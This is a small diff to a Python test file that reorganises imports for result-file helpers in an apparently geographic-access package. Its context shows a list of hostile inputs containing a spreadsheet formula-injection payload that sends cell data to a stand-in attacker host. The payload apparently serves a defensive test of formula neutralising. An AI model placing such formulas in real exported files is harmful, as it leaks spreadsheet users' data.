@@ -14,9 +14,9 @@ from dataclasses import replace
 from pathlib import Path
 
 import pytest
-from ural_access.geo.access import compute_access
-from ural_access.geo.io import neutral_cell, read_header, read_table, restored_cell
-from ural_access.geo.results import read_results, write_results
+from ural_access.geo.pipeline.compute import compute_access
+from ural_access.geo.results.access_results import read_results, write_results
+from ural_access.geo.results.files import neutral_cell, read_header, read_table, restored_cell
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
